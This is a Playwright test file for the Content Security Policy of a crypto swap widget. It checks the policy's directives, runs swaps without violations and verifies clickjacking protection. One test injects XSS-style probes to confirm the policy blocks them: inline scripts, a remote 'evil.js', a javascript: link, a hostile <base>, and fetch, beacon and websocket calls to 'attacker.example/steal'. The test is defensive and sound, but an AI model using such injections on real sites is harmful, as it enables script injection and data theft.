/**
 * The Content Security Policy of the production build (vite.config.ts): a <meta> in index.html,
 * and the same policy plus frame-ancestors as the header `vite preview` sends. The browser tests'
 * build talks to the sandbox on loopback, so its connect-src also lets in the local chains.
 *
 * What it must do: let whole swaps run without a single violation, refuse script the build did
 * not ship (inline, injected, eval) and requests to origins it does not name, and refuse to be
 * framed by a page that is not allowed (clickjacking of the confirm button).
 */
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { clearFaults, control, fillSwap, pickRoute, SANDBOX, swapIdFromUrl } from './helpers';
import { HOST_ORIGIN, HOST_PAGE, THIRD_ORIGIN, WIDGET_ORIGIN } from './host';
import { createLocalSwap, type LocalRoute } from './local-chains';
import { LOCAL_CHAIN_PORTS } from './ports';
import { installEvmTestWallet } from './wallet/evm-wallet';

/**
 * The partner page of the tests (allowed to frame the widget in a loopback build) and another
 * origin, each loading the widget of this run (ports move with PORTAGE_PORT_OFFSET).
 */
const WIDGET_PARAM = `widget=${encodeURIComponent(`${WIDGET_ORIGIN}/`)}`;
const ALLOWED_HOST = `${HOST_PAGE}?${WIDGET_PARAM}`;
const OTHER_HOST = `${THIRD_ORIGIN}/host.html?${WIDGET_PARAM}`;

interface Violation {
  directive: string;
  blocked: string;
  document: string;
  sample: string;
}

/** Records every CSP violation of every frame of the page (call before it loads). */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: unknown[] = [];
    (window as unknown as { cspViolations: unknown[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        document: event.documentURI,
        sample: event.sample,
      }),
    );
  });
}

const violations = (page: Page): Promise<Violation[]> =>
  page.evaluate(() => (window as unknown as { cspViolations: Violation[] }).cspViolations);

/** A policy as directive → sources. */
function directives(policy: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) map.set(name, sources);
  }
  return map;
}

test.beforeEach(async ({ request }) => {
  await clearFaults(request);
});

test('the stylesheet comes inside the page: no stylesheet is fetched at load, and its rules apply', async ({
  page,
}) => {
  const sheets: string[] = [];
  page.on('request', (request) => {
    if (request.resourceType() === 'stylesheet') sheets.push(request.url());
  });
  await page.goto('/');
  await expect(page.getByRole('button', { name: /^From\b/ })).toBeEnabled();
  expect(sheets).toEqual([]);
  expect(await page.locator('head style').count()).toBeGreaterThan(0);
  // Rules of src/ui/styles.css: the widget is a centred 480 px column, its header a flex row.
  expect(await page.locator('main.portage').evaluate((el) => getComputedStyle(el).maxWidth)).toBe('480px');
  expect(await page.locator('.portage-header').evaluate((el) => getComputedStyle(el).display)).toBe('flex');
});

test('the served page carries the policy as a header and as a meta tag, the same but for frame-ancestors', async ({
  page,
}) => {
  for (const path of ['/', '/?lang=en&theme=dark']) {
    const response = await page.goto(path);
    const header = response?.headers()['content-security-policy'] ?? '';
    const meta =
      (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
    expect(header, path).not.toBe('');
    expect(meta, path).not.toBe('');

    const fromMeta = directives(meta);
    const fromHeader = directives(header);
    // The meta is first after the charset, before any script or stylesheet it governs.
    expect(
      await page.evaluate(() => {
        const csp = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
        return [...document.head.children].indexOf(csp as Element);
      }),
    ).toBe(1);
    expect(fromMeta.get('default-src')).toEqual(["'self'"]);
    expect(fromMeta.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    // Inline event handlers: only the empty one (TonConnect UI's <body ontouchstart="">).
    expect(fromMeta.get('script-src-attr')).toEqual([
      "'unsafe-hashes'",
      "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
    ]);
    expect(fromMeta.get('object-src')).toEqual(["'none'"]);
    expect(fromMeta.get('base-uri')).toEqual(["'none'"]);
    expect(fromMeta.get('form-action')).toEqual(["'none'"]);
    expect(fromMeta.get('img-src')).toEqual(["'self'", 'https:', 'data:']);
    expect(fromMeta.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    const connect = fromMeta.get('connect-src') ?? [];
    // The service, and (a loopback build) the local chains' nodes, over HTTP and websockets.
    expect(connect).toEqual(
      expect.arrayContaining([
        "'self'",
        SANDBOX,
        'http://127.0.0.1:*',
        'ws://127.0.0.1:*',
        'http://localhost:*',
        'ws://localhost:*',
      ]),
    );
    // No blanket scheme: every other source names a host (the local chains: any port).
    for (const source of connect)
      expect(source, 'connect-src').toMatch(/^('self'|(https?|wss?):\/\/[a-z0-9.-]+(:(\d+|\*))?)$/);
    // frame-ancestors cannot be a meta (browsers ignore it there): only in the header.
    expect(fromMeta.has('frame-ancestors')).toBe(false);
    expect(fromHeader.get('frame-ancestors')).toEqual(["'self'", HOST_ORIGIN]);
    // Everything else is the same policy (the preview server also asks for violation reports).
    fromHeader.delete('frame-ancestors');
    fromHeader.delete('report-uri');
    expect(Object.fromEntries(fromHeader)).toEqual(Object.fromEntries(fromMeta));
  }
});

test('a manual-deposit swap from route to history runs without a single policy violation', async ({
  page,
  request,
}) => {
  await recordViolations(page);
  await page.goto('/');
  await fillSwap(page);
  await page.getByRole('button', { name: 'Create swap' }).click();
  await expect(page.getByRole('heading', { name: 'Send your deposit' })).toBeVisible();
  // The QR code is drawn, the copy buttons are there.
  await expect(page.getByRole('img', { name: /QR code of the deposit address/ })).toBeVisible();
  const id = swapIdFromUrl(page);
  await control(request, `/sandbox/swaps/${id}/deposit`, { transaction_id: `0x${'ab'.repeat(32)}` });
  await expect(page.getByRole('heading', { name: 'Swap completed' })).toBeVisible({ timeout: 40_000 });
  await page.getByRole('button', { name: 'History' }).click();
  await expect(page.getByRole('button', { name: /0\.5 ETH.*Completed/ })).toBeVisible();
  expect(await violations(page)).toEqual([]);
});

test('an EVM wallet swap (RainbowKit, wagmi, the local chains) runs without a single policy violation', async ({
  page,
}) => {
  test.setTimeout(90_000);
  const chainA = { id: 31337, url: `http://127.0.0.1:${LOCAL_CHAIN_PORTS.evm[0]}` };
  const chainB = { id: 31338, url: `http://127.0.0.1:${LOCAL_CHAIN_PORTS.evm[1]}` };
  await recordViolations(page);
  await installEvmTestWallet(page, {
    rpcUrls: { [chainA.id]: chainA.url, [chainB.id]: chainB.url },
    initialChainId: chainB.id,
  });
  await page.goto('/');
  const route: LocalRoute = {
    from: 'Local Chain A',
    token: 'ETH',
    toToken: 'ETH',
    connect: async () => {
      await page.getByRole('button', { name: 'Connect wallet' }).click();
      await page.getByRole('button', { name: /Portage Test Wallet/ }).click();
      await expect(page.getByTestId('wallet-panel')).toContainText('0xf39F');
    },
  };
  await createLocalSwap(page, route, { amount: '0.25' });
  await page.getByRole('button', { name: 'Send 0.25 ETH from wallet' }).click();
  await expect(page.getByRole('heading', { name: 'Swap completed' })).toBeVisible({ timeout: 60_000 });
  expect(await violations(page)).toEqual([]);
});

test('the TON wallet kit (TonConnect UI) loads and opens its dialog without a policy violation', async ({
  page,
}) => {
  await recordViolations(page);
  await page.goto('/');
  await pickRoute(page, 'From', 'TON', 'TON');
  await pickRoute(page, 'To', 'Ethereum', 'ETH');
  await page.getByRole('button', { name: 'Connect wallet' }).click();
  // TonConnect UI mounted (it marks <body ontouchstart="">) and its wallets dialog is open.
  await expect.poll(() => page.evaluate(() => document.body.getAttribute('ontouchstart'))).toBe('');
  await expect(page.locator('tc-root [data-tc-modal="true"]')).toBeVisible();
  await page.waitForTimeout(500);
  expect(await violations(page)).toEqual([]);
});

test('script the build did not ship does not run, and requests to origins the policy does not name are refused', async ({
  page,
}) => {
  await recordViolations(page);
  await page.goto('/');
  await expect(page.getByRole('button', { name: /^From\b/ })).toBeVisible();

  const outcome = await page.evaluate(async (service) => {
    const flags = window as unknown as Record<string, unknown>;
    // An injected inline <script>, as an XSS would add.
    const script = document.createElement('script');
    script.textContent = 'window.inlineRan = true;';
    document.head.append(script);
    // An inline event handler.
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img id="probe" alt="" src="/does-not-exist.png" onerror="window.handlerRan = true">',
    );
    // A script from another origin.
    const remote = document.createElement('script');
    remote.src = 'http://[::1]:4180/evil.js';
    const remoteLoaded = new Promise((resolve) => {
      remote.onload = () => resolve('loaded');
      remote.onerror = () => resolve('refused');
    });
    document.head.append(remote);
    // A javascript: URL, clicked. (eval cannot be probed from here: code a test tool runs in the
    // page is exempt; the policy has no 'unsafe-eval', checked in the first test.)
    const link = document.createElement('a');
    link.href = 'javascript:window.linkRan = true';
    link.textContent = 'probe';
    document.body.append(link);
    link.click();
    // A <base> that would send relative URLs elsewhere.
    const base = document.createElement('base');
    base.href = 'https://attacker.example/';
    document.head.prepend(base);
    const baseAfter = document.baseURI;
    base.remove();
    // Requests: to an origin outside connect-src (on the internet, and on this very machine), and,
    // for comparison, to the service.
    const request = async (url: string) => {
      try {
        await fetch(url, { mode: 'no-cors' });
        return 'sent';
      } catch {
        return 'refused';
      }
    };
    const fetches = {
      internet: await request('https://attacker.example/steal?key=x'),
      otherLoopback: await request('http://[::1]:4180/host.html'),
      service: await request(`${service}/api/v2/health`),
    };
    // A beacon and a websocket (refused without an answer to wait for: see the violations below).
    navigator.sendBeacon('https://attacker.example/beacon', 'x');
    try {
      new WebSocket('wss://attacker.example/socket');
    } catch {}
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      inlineRan: flags.inlineRan ?? false,
      handlerRan: flags.handlerRan ?? false,
      remote: await remoteLoaded,
      linkRan: flags.linkRan ?? false,
      baseAfter,
      fetches,
    };
  }, SANDBOX);

  expect(outcome).toEqual({
    inlineRan: false,
    handlerRan: false,
    remote: 'refused',
    linkRan: false,
    baseAfter: `${WIDGET_ORIGIN}/`,
    fetches: { internet: 'refused', otherLoopback: 'refused', service: 'sent' },
  });
  // Each refusal was the policy's (not the network's), by the directive meant for it.
  const seen = await violations(page);
  const by = (directive: string) => seen.filter((v) => v.directive === directive).map((v) => v.blocked);
  expect(by('script-src-elem')).toEqual(expect.arrayContaining(['inline', 'http://[::1]:4180/evil.js']));
  // The event handler and the javascript: link.
  expect(by('script-src-attr')).toEqual(['inline', 'inline']);
  expect(by('base-uri')).toContain('https://attacker.example/');
  expect(by('connect-src')).toEqual(
    expect.arrayContaining([
      'https://attacker.example/steal?key=x',
      'http://[::1]:4180/host.html',
      'https://attacker.example/beacon',
      'wss://attacker.example/socket',
    ]),
  );
  expect(seen.map((v) => v.blocked).join(' ')).not.toContain(new URL(SANDBOX).host);
});

test('a page that is not allowed cannot frame the widget (no confirm button to click), the allowed host page can', async ({
  page,
}) => {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/frame-ancestors/.test(message.text())) refusals.push(message.text());
  });

  // http://localhost:4181 mounts the widget exactly as the partner's page does.
  await page.goto(`${OTHER_HOST}&from=ETHEREUM_MAINNET&fromAsset=ETH&amount=0.5`);
  await expect(page.locator('#loader-status')).toHaveText('Widget mounted.');
  const iframe = page.locator('#portage iframe');
  await expect(iframe).toHaveAttribute('src', new RegExp(`^${WIDGET_ORIGIN}/`));
  // The browser refuses to render it: the frame holds its error page, never the widget.
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  expect(refusals[0]).toContain(HOST_ORIGIN);
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
  expect(page.frames().some((frame) => frame.url().startsWith(WIDGET_ORIGIN))).toBe(false);
  await page.waitForTimeout(1_000);
  const widget = page.frameLocator('#portage iframe');
  await expect(widget.getByRole('button', { name: /^From\b/ })).toHaveCount(0);
  await expect(widget.getByRole('button', { name: 'Create swap' })).toHaveCount(0);
  // No widget ran in there: not even `ready` reached the page.
  expect(
    await page.evaluate(() => (window as unknown as { portageEvents: unknown[] }).portageEvents),
  ).toEqual([]);

  // The allowed partner page frames the same widget, up to its confirm button.
  refusals.length = 0;
  await page.goto(ALLOWED_HOST);
  const allowed = page.frameLocator('#portage iframe');
  await fillSwap(allowed);
  await expect(allowed.getByRole('button', { name: 'Create swap' })).toBeEnabled();
  expect(refusals).toEqual([]);
});
